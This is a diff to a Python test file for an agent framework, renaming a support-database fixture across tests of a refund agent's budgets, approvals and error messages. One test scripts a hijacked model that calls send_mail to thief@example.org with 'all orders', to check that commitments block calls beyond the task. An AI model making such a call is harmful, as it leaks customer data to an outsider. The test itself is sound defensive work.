@@ -34,13 +34,13 @@ REPEATABLE: Any = {"look_up": "repeatable"}
 
 
 @pytest.fixture
-def desk(tmp_path: Path) -> SupportDatabase:
+def database(tmp_path: Path) -> SupportDatabase:
     return SupportDatabase(tmp_path / "desk.sqlite")
 
 
-def build(method: Any, desk: SupportDatabase, **options: Any) -> AgentGraph:
+def build(method: Any, database: SupportDatabase, **options: Any) -> AgentGraph:
     settings = {"model": scripted_model(), "effects": REPEATABLE, "checkpointer": InMemorySaver(), **options}
-    return agent(method, tools=desk.tools, **settings)
+    return agent(method, tools=database.tools, **settings)
 
 
 def thread(name: str = "1") -> Any:
@@ -48,32 +48,32 @@ def thread(name: str = "1") -> Any:
 
 
 @pytest.mark.parametrize("method", METHODS)
-def test_every_method_does_the_work_once_and_answers_with_a_message(method: Any, desk: SupportDatabase) -> None:
-    result = build(method, desk).invoke({"messages": [("user", GOAL)]}, thread())
-    assert desk.rows("refunds") == [(17, 49.9)]
-    assert len(desk.rows("mails")) == 1
+def test_every_method_does_the_work_once_and_answers_with_a_message(method: Any, database: SupportDatabase) -> None:
+    result = build(method, database).invoke({"messages": [("user", GOAL)]}, thread())
+    assert database.rows("refunds") == [(17, 49.9)]
+    assert len(database.rows("mails")) == 1
     assert isinstance(result["messages"][-1], AIMessage)
     assert result["messages"][-1].text
     assert result["ending"] in ("goal", "finished")
 
 
-def test_sdp_returns_what_it_certified(desk: SupportDatabase) -> None:
-    result = build("sdp", desk).invoke({"goal": GOAL}, thread())
+def test_sdp_returns_what_it_certified(database: SupportDatabase) -> None:
+    result = build("sdp", database).invoke({"goal": GOAL}, thread())
     certified = [target.text for certificate in result["certificates"] for target in certificate.targets]
     assert certified[: len(CONDITIONS)] == CONDITIONS
     assert result["ending"] == "goal"
 
 
 def test_an_answer_is_handed_in_for_a_condition_that_words_the_goal_otherwise(
-    desk: SupportDatabase, monkeypatch: pytest.MonkeyPatch
+    database: SupportDatabase, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(support_database, "CONDITIONS", [*CONDITIONS, "All is done, and the answer was handed in."])
     monkeypatch.setattr(support_database, "SHOWN_BY", [*support_database.SHOWN_BY, "handed in"])
-    result = build("sdp", desk).invoke({"goal": GOAL}, thread())
-    assert (result["ending"], desk.rows("refunds")) == ("goal", [(17, 49.9)])
+    result = build("sdp", database).invoke({"goal": GOAL}, thread())
+    assert (result["ending"], database.rows("refunds")) == ("goal", [(17, 49.9)])
 
 
-def test_who_judges_a_target_is_shown_why_it_is_given_up(desk: SupportDatabase) -> None:
+def test_who_judges_a_target_is_shown_why_it_is_given_up(database: SupportDatabase) -> None:
     judged = []
 
     def answers(prompt: str, schema: Any) -> Any:
@@ -86,22 +86,22 @@ def test_who_judges_a_target_is_shown_why_it_is_given_up(desk: SupportDatabase) 
 
     model = ScriptedChat(responder=answers)
     with pytest.raises(LimitReached):
-        build("sdp", desk, model=model, budget={"calls": 8}).invoke({"goal": GOAL}, thread())
+        build("sdp", database, model=model, budget={"calls": 8}).invoke({"goal": GOAL}, thread())
     assert "order 17 is not there" in judged[0]
 
 
-def test_async_invocation_without_a_checkpointer(desk: SupportDatabase) -> None:
-    graph = build("react", desk, checkpointer=None)
+def test_async_invocation_without_a_checkpointer(database: SupportDatabase) -> None:
+    graph = build("react", database, checkpointer=None)
     result = asyncio.run(graph.ainvoke({"goal": GOAL}))
     assert result["ending"] == "finished"
-    assert len(desk.rows("refunds")) == 1
+    assert len(database.rows("refunds")) == 1
 
 
-def test_a_second_message_on_the_thread_is_a_task_of_its_own(desk: SupportDatabase) -> None:
-    graph = build("react", desk)
+def test_a_second_message_on_the_thread_is_a_task_of_its_own(database: SupportDatabase) -> None:
+    graph = build("react", database)
     graph.invoke({"messages": [("user", GOAL)]}, thread())
     result = graph.invoke({"messages": [("user", GOAL)]}, thread())
-    assert len(desk.rows("refunds")) == 2
+    assert len(database.rows("refunds")) == 2
     assert [message.type for message in result["messages"]] == ["human", "ai", "human", "ai"]
 
 
@@ -113,9 +113,9 @@ class Refunded(BaseModel):
 
 
 @pytest.mark.slow
-def test_the_answer_has_the_form_that_was_given(desk: SupportDatabase) -> None:
+def test_the_answer_has_the_form_that_was_given(database: SupportDatabase) -> None:
     for method in ("sdp", "react"):
-        result = build(method, desk, response_format=Refunded).invoke({"goal": GOAL}, thread(method))
+        result = build(method, database, response_format=Refunded).invoke({"goal": GOAL}, thread(method))
         assert isinstance(result["structured_response"], Refunded)
 
 
@@ -126,8 +126,8 @@ class Ticket(TypedDict):
 
 
 @pytest.mark.slow
-def test_further_state_passes_through(desk: SupportDatabase) -> None:
-    graph = build("sdp", desk, state_schema=Ticket)
+def test_further_state_passes_through(database: SupportDatabase) -> None:
+    graph = build("sdp", database, state_schema=Ticket)
     given: Any = {"goal": GOAL, "ticket": "T-1"}
     assert graph.invoke(given, thread())["ticket"] == "T-1"
     graph.update_state(thread(), {"ticket": "T-2"})
@@ -135,11 +135,11 @@ def test_further_state_passes_through(desk: SupportDatabase) -> None:
     assert graph.invoke({"goal": GOAL}, thread())["ticket"] == "T-2"
 
 
-def test_operators_are_exchanged_by_slot(desk: SupportDatabase) -> None:
-    result = build("sdp", desk, validate=always_pass).invoke({"goal": GOAL}, thread())
+def test_operators_are_exchanged_by_slot(database: SupportDatabase) -> None:
+    result = build("sdp", database, validate=always_pass).invoke({"goal": GOAL}, thread())
     assert result["certificates"][0].decided_by == ""
     with pytest.raises(TypeError, match="validate"):
-        build("sdp", desk, validat=always_pass)
+        build("sdp", database, validat=always_pass)
 
 
 def test_a_node_can_be_inserted_between_two_others() -> None:
@@ -151,59 +151,59 @@ def test_a_node_can_be_inserted_between_two_others() -> None:
         builder().insert("log", lambda state: {}, between=("act", "replan"))
 
 
-def test_an_agent_is_a_node_of_a_larger_graph(desk: SupportDatabase) -> None:
+def test_an_agent_is_a_node_of_a_larger_graph(database: SupportDatabase) -> None:
     class Outer(TypedDict, total=False):
         messages: Any
         done: bool
 
     outer = StateGraph(Outer)
-    outer.add_node("agent", build("sdp", desk, checkpointer=None))
+    outer.add_node("agent", build("sdp", database, checkpointer=None))
     outer.add_node("after", lambda state: {"done": True})
     outer.add_edge(START, "agent")
     outer.add_edge("agent", "after")
     outer.add_edge("after", END)
     result = outer.compile(checkpointer=InMemorySaver()).invoke({"messages": [("user", GOAL)]}, thread())
     assert result["done"]
-    assert len(desk.rows("refunds")) == 1
+    assert len(database.rows("refunds")) == 1
 
 
-def test_input_without_a_request_is_refused(desk: SupportDatabase) -> None:
+def test_input_without_a_request_is_refused(database: SupportDatabase) -> None:
     with pytest.raises(Fault, match="messages"):
-        build("react", desk).invoke({"messages": []}, thread())
+        build("react", database).invoke({"messages": []}, thread())
 
 
-def test_unknown_names_are_refused_with_the_known_ones(desk: SupportDatabase) -> None:
+def test_unknown_names_are_refused_with_the_known_ones(database: SupportDatabase) -> None:
     with pytest.raises(ValueError, match="react"):
-        build("nothing", desk)
+        build("nothing", database)
     with pytest.raises(ValueError, match="did you mean sdp"):
-        build("spd", desk)
+        build("spd", database)
     with pytest.raises(TypeError, match="did you mean interrupt_on"):
-        build("react", desk, interrupts_on={})
+        build("react", database, interrupts_on={})
     with pytest.raises(TypeError, match="did you mean instructions"):
-        build("react", desk, system_prompt="Be brief.")
+        build("react", database, system_prompt="Be brief.")
     with pytest.raises(TypeError, match=r"ScriptedChat\(responder=...\)"):
-        build("react", desk, model=lambda_tool)
+        build("react", database, model=lambda_tool)
     with pytest.raises(ValueError, match="'tools', 'arguments' or None"):
-        build("react", desk, commitments="tool")
+        build("react", database, commitments="tool")
     with pytest.raises(ValueError, match="look_up"):
-        build("react", desk, interrupt_on={"nothing": True})
+        build("react", database, interrupt_on={"nothing": True})
     with pytest.raises(UnknownName, match="replan=always_pass: always_pass is an operator of validate"):
-        build("sdp", desk, replan=always_pass)
+        build("sdp", database, replan=always_pass)
     with pytest.raises(TypeError, match="react has no operator slot 'validate'; sdp has it"):
-        build("react", desk, validate=always_pass)
+        build("react", database, validate=always_pass)
     with pytest.raises(TypeError, match="give a dict"):
-        build("react", desk, interrupt_on=["refund"])
+        build("react", database, interrupt_on=["refund"])
     with pytest.raises(ValueError, match="look_up"):
-        build("react", desk, effects={"nothing": "repeatable"})
+        build("react", database, effects={"nothing": "repeatable"})
 
 
 UNANSWERED = {"name": "finish", "args": {"answer": ""}}
 
 
-def test_an_agent_without_an_answer_says_why_it_stopped(desk: SupportDatabase) -> None:
+def test_an_agent_without_an_answer_says_why_it_stopped(database: SupportDatabase) -> None:
     answers = {"tools": [], "conditions": [], "reasoning": "", "thought": "", "calls": [UNANSWERED]}
     model = ScriptedChat(responder=lambda prompt, schema: {name: answers[name] for name in schema["properties"]})
-    state = agent("sdp", model=model, tools=desk.tools).invoke({"goal": GOAL})
+    state = agent("sdp", model=model, tools=database.tools).invoke({"goal": GOAL})
     assert state["ending"] == "gave_up"
     assert state["ending_reason"].startswith("the plan is empty")
     assert f"gave_up: {state['ending_reason']}" in state["messages"][-1].text
@@ -232,9 +232,9 @@ def test_a_run_that_a_failing_tool_ended_names_its_error(method: Any) -> None:
 
 
 @pytest.mark.parametrize("model", ["scripted:expert", "scripted:first", "simulated:act=0.2"])
-def test_scripts_of_benchmarks_are_refused(model: str, desk: SupportDatabase) -> None:
+def test_scripts_of_benchmarks_are_refused(model: str, database: SupportDatabase) -> None:
     with pytest.raises(ValueError, match="ScriptedChat"):
-        agent("sdp", model=model, tools=desk.tools)
+        agent("sdp", model=model, tools=database.tools)
 
 
 @pytest.mark.parametrize(
@@ -247,38 +247,38 @@ def test_scripts_of_benchmarks_are_refused(model: str, desk: SupportDatabase) ->
     ],
 )
 def test_a_named_model_that_cannot_be_used_is_refused_when_the_agent_is_built(
-    model: str, installed: bool, fix: str, desk: SupportDatabase, monkeypatch: pytest.MonkeyPatch
+    model: str, installed: bool, fix: str, database: SupportDatabase, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     for name in ("OPENAI_API_KEY", "CERTIGRAPH_BASE_URL"):
         monkeypatch.delenv(name, raising=False)
     if not installed:
         monkeypatch.setitem(sys.modules, "langchain.chat_models", None)
     with pytest.raises(Fault, match=fix) as refused:
-        agent("sdp", model=model, tools=desk.tools)
+        agent("sdp", model=model, tools=database.tools)
     assert len(str(refused.value).splitlines()) == 1
 
 
 def test_a_missing_package_of_local_weights_is_named_when_the_agent_is_built(
-    desk: SupportDatabase, monkeypatch: pytest.MonkeyPatch
+    database: SupportDatabase, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr("certigraph.adapters.models.clients.find_spec", lambda name: None)
     with pytest.raises(Fault, match=r"xllamacpp .* pip install 'certigraph\[local\]'"):
-        agent("sdp", model="local:qwen-0.5b", tools=desk.tools)
+        agent("sdp", model="local:qwen-0.5b", tools=database.tools)
 
 
-def test_missing_weights_are_named_when_the_agent_is_built(desk: SupportDatabase, tmp_path: Path) -> None:
+def test_missing_weights_are_named_when_the_agent_is_built(database: SupportDatabase, tmp_path: Path) -> None:
     with pytest.raises(Fault, match=r"missing\.gguf"):
-        agent("sdp", model=f"local:{tmp_path}/missing.gguf", tools=desk.tools)
+        agent("sdp", model=f"local:{tmp_path}/missing.gguf", tools=database.tools)
 
 
-def test_without_a_checkpointer_an_approval_is_refused_before_anything_is_done(desk: SupportDatabase) -> None:
+def test_without_a_checkpointer_an_approval_is_refused_before_anything_is_done(database: SupportDatabase) -> None:
     prompts = []
 
     def answers(prompt: str, schema: Any) -> Any:
         prompts.append(prompt)
         return scripted_model().responder(prompt, schema)
 
-    graph = agent("sdp", model=ScriptedChat(responder=answers), tools=desk.tools, interrupt_on={"refund": True})
+    graph = agent("sdp", model=ScriptedChat(responder=answers), tools=database.tools, interrupt_on={"refund": True})
     with pytest.raises(Fault, match=r"approval of refund .*checkpointer=InMemorySaver"):
         graph.invoke({"goal": GOAL})
     outer: Any = StateGraph(dict)
@@ -289,37 +289,37 @@ def test_without_a_checkpointer_an_approval_is_refused_before_anything_is_done(d
     assert prompts == []
 
 
-def test_without_a_checkpointer_a_tool_that_needs_no_approval_is_called(desk: SupportDatabase) -> None:
-    graph = agent("react", model=scripted_model(), tools=desk.tools, interrupt_on={"refund": False})
+def test_without_a_checkpointer_a_tool_that_needs_no_approval_is_called(database: SupportDatabase) -> None:
+    graph = agent("react", model=scripted_model(), tools=database.tools, interrupt_on={"refund": False})
     assert graph.invoke({"goal": GOAL})["ending"] == "finished"
 
 
-def test_the_checkpointer_of_a_graph_around_the_agent_serves_its_approvals(desk: SupportDatabase) -> None:
+def test_the_checkpointer_of_a_graph_around_the_agent_serves_its_approvals(database: SupportDatabase) -> None:
     outer: Any = StateGraph(AgentInput)
-    outer.add_node("desk", agent("react", model=scripted_model(), tools=desk.tools, interrupt_on={"refund": True}))
+    outer.add_node("desk", agent("react", model=scripted_model(), tools=database.tools, interrupt_on={"refund": True}))
     outer.add_edge(START, "desk")
     graph = outer.compile(checkpointer=InMemorySaver())
     waiting = graph.invoke({"goal": GOAL}, thread())
     assert waiting["__interrupt__"][0].value["action_requests"][0]["name"] == "refund"
     graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), thread())
-    assert len(desk.rows("refunds")) == 1
+    assert len(database.rows("refunds")) == 1
 
 
-def test_a_spent_budget_stops_the_run_and_a_larger_one_continues_it(desk: SupportDatabase) -> None:
-    graph = build("react", desk, budget=Budget(calls=2))
+def test_a_spent_budget_stops_the_run_and_a_larger_one_continues_it(database: SupportDatabase) -> None:
+    graph = build("react", database, budget=Budget(calls=2))
     with pytest.raises(LimitReached, match=r"2 of 2 calls .* Budget\(calls=4\)") as reached:
         graph.invoke({"goal": GOAL}, thread())
     assert str(pickle.loads(pickle.dumps(reached.value))) == str(reached.value)
     larger: Any = {"budget": {"calls": 50}}
     result = graph.invoke(None, thread(), context=larger)
     assert result["ending"] == "finished"
-    assert len(desk.rows("refunds")) == 1
+    assert len(database.rows("refunds")) == 1
 
 
 @pytest.mark.parametrize("asynchronous", [False, True])
-def test_a_limit_inside_a_larger_graph_advises_its_caller(asynchronous: bool, desk: SupportDatabase) -> None:
+def test_a_limit_inside_a_larger_graph_advises_its_caller(asynchronous: bool, database: SupportDatabase) -> None:
     outer: Any = StateGraph(AgentInput)
-    outer.add_node("desk", build("tdp", desk, solve="sdp", checkpointer=None, budget=Budget(calls=2)))
+    outer.add_node("desk", build("tdp", database, solve="sdp", checkpointer=None, budget=Budget(calls=2)))
     outer.add_edge(START, "desk")
     graph = outer.compile()
     with pytest.raises(LimitReached, match=r"Budget\(calls=4\)") as reached:
@@ -335,25 +335,25 @@ def test_a_limit_inside_a_larger_graph_advises_its_caller(asynchronous: bool, de
     ],
 )
 def test_a_model_that_calls_a_tool_where_only_an_answer_is_taken_is_named_with_the_reason(
-    conditions: list[str], reason: str, desk: SupportDatabase
+    conditions: list[str], reason: str, database: SupportDatabase
 ) -> None:
     def answers(prompt: str, schema: Any) -> Any:
         again = {"thought": "", "calls": [{"name": "look_up", "args": {"order": 17}}], "tools": ["look_up"]}
         answer = {**minimal_instance(schema), **again, "conditions": conditions, "holds": 0, "reachable": True}
         return {name: answer[name] for name in schema["properties"]}
 
-    graph = build("sdp", desk, model=ScriptedChat(responder=answers), limits=Limits(steps=3))
+    graph = build("sdp", database, model=ScriptedChat(responder=answers), limits=Limits(steps=3))
     with pytest.raises(Fault, match=reason) as raised:
         graph.invoke({"goal": GOAL}, thread())
     assert raised.value.boundary == "model"
 
 
 @pytest.mark.parametrize("asynchronous", [False, True])
-def test_a_script_without_further_answers_is_named(asynchronous: bool, desk: SupportDatabase) -> None:
+def test_a_script_without_further_answers_is_named(asynchronous: bool, database: SupportDatabase) -> None:
     def answers(prompt: str, schema: Any) -> Any:
         return next(iter(()))
 
-    graph = build("sdp", desk, model=ScriptedChat(responder=answers))
+    graph = build("sdp", database, model=ScriptedChat(responder=answers))
     with pytest.raises(LookupError, match="the script has no more answers"):
         asyncio.run(graph.ainvoke({"goal": GOAL}, thread())) if asynchronous else graph.invoke({"goal": GOAL}, thread())
 
@@ -361,23 +361,23 @@ def test_a_script_without_further_answers_is_named(asynchronous: bool, desk: Sup
 @pytest.mark.parametrize("given", ["Cancel order 7.", {}])
 @pytest.mark.parametrize("asynchronous", [False, True])
 def test_an_input_without_a_request_is_answered_with_its_form(
-    given: Any, asynchronous: bool, desk: SupportDatabase
+    given: Any, asynchronous: bool, database: SupportDatabase
 ) -> None:
-    graph = build("sdp", desk)
+    graph = build("sdp", database)
     with pytest.raises(Fault, match=r"the input needs \{\"messages\""):
         asyncio.run(graph.ainvoke(given, thread())) if asynchronous else graph.invoke(given, thread())
 
 
-def test_several_episodes_need_a_reset(desk: SupportDatabase) -> None:
+def test_several_episodes_need_a_reset(database: SupportDatabase) -> None:
     with pytest.raises(Fault, match="trials"):
-        build("step", desk, limits=Limits(trials=3)).invoke({"goal": GOAL}, thread())
+        build("step", database, limits=Limits(trials=3)).invoke({"goal": GOAL}, thread())
 
 
 # Commitments.
 
 
 @pytest.mark.slow
-def test_calls_beyond_the_commitment_are_refused_and_the_run_goes_on(desk: SupportDatabase) -> None:
+def test_calls_beyond_the_commitment_are_refused_and_the_run_goes_on(database: SupportDatabase) -> None:
     hijacked = [SCRIPT[0], ("send_mail", {"to": "thief@example.org", "text": "all orders"})]
 
     class Hijacked(type(scripted_model(hijacked).responder)):  # type: ignore[misc]
@@ -387,19 +387,19 @@ def test_calls_beyond_the_commitment_are_refused_and_the_run_goes_on(desk: Suppo
 
     for method in ("react", "sdp"):
         model = scripted_model().model_copy(update={"responder": Hijacked(hijacked)})
-        graph = build(method, desk, model=model, limits=Limits(steps=6))
+        graph = build(method, database, model=model, limits=Limits(steps=6))
         graph.invoke({"goal": GOAL}, thread(method))
-        assert desk.rows("mails") == []
+        assert database.rows("mails") == []
     model = scripted_model().model_copy(update={"responder": Hijacked(hijacked)})
-    build("react", desk, model=model, commitments=None).invoke({"goal": GOAL}, thread("free"))
-    assert len(desk.rows("mails")) == 1
+    build("react", database, model=model, commitments=None).invoke({"goal": GOAL}, thread("free"))
+    assert len(database.rows("mails")) == 1
 
 
 # Calls beyond the most.
 
 
 @pytest.mark.parametrize("method", ["react", "sdp"])
-def test_calls_beyond_the_most_are_not_made_and_the_model_sees_how_many(method: Any, desk: SupportDatabase) -> None:
+def test_calls_beyond_the_most_are_not_made_and_the_model_sees_how_many(method: Any, database: SupportDatabase) -> None:
     orders, prompts, usual = range(100, 102 + MAX_CALLS), list[str](), scripted_model()
 
     def answers(prompt: str, schema: Any) -> Any:
@@ -409,11 +409,11 @@ def test_calls_beyond_the_most_are_not_made_and_the_model_sees_how_many(method: 
         many = [{"name": "look_up", "args": {"order": order}} for order in orders]
         return {"thought": "all at once", "calls": many} if len(prompts) == 1 else usual.responder(prompt, schema)
 
-    graph = build(method, desk, model=ScriptedChat(responder=answers))
+    graph = build(method, database, model=ScriptedChat(responder=answers))
     graph.invoke({"goal": GOAL}, thread())
     first, second, *_ = [calls_of(step.action) for step in graph.get_state(thread()).values["history"]]
     refused = [call for call in first if call.refused]
-    assert desk.looked_up == len(first) - len(refused) == MAX_CALLS
+    assert database.looked_up == len(first) - len(refused) == MAX_CALLS
     assert [call.args["order"] for call in refused] == [orders[MAX_CALLS]]
     assert all(f"{call}\n{call.refused}" in prompts[1] and "2 in all" in call.refused for call in refused)
     assert [call.name for call in second] == [SCRIPT[1][0]]
@@ -445,9 +445,9 @@ def keeping_model() -> Iterator[BaseChatModel]:
 @pytest.mark.slow
 @pytest.mark.parametrize("method", ["tdp", "sdp"])
 def test_a_model_object_serves_one_invocation_after_the_other(
-    method: Any, desk: SupportDatabase, keeping_model: BaseChatModel
+    method: Any, database: SupportDatabase, keeping_model: BaseChatModel
 ):
-    graph, ending = build(method, desk, model=keeping_model), "goal" if method == "sdp" else "finished"
+    graph, ending = build(method, database, model=keeping_model), "goal" if method == "sdp" else "finished"
     for number in range(3):
         assert graph.invoke({"goal": GOAL}, thread(str(number)))["ending"] == ending
     assert asyncio.run(graph.ainvoke({"goal": GOAL}, thread("async")))["ending"] == ending
@@ -456,9 +456,9 @@ def test_a_model_object_serves_one_invocation_after_the_other(
 
 @pytest.mark.slow
 def test_a_model_object_serves_one_run_after_the_other(
-    desk: SupportDatabase, keeping_model: BaseChatModel, tmp_path: Path
+    database: SupportDatabase, keeping_model: BaseChatModel, tmp_path: Path
 ):
-    world = Tools(desk.tools, [GOAL], reset=lambda case: None)
+    world = Tools(database.tools, [GOAL], reset=lambda case: None)
     for number in range(3):
         context = Context(chat=keeping_model)
         assert run("tdp", world, "1", context=context, out=tmp_path / str(number)).ending == "goal"
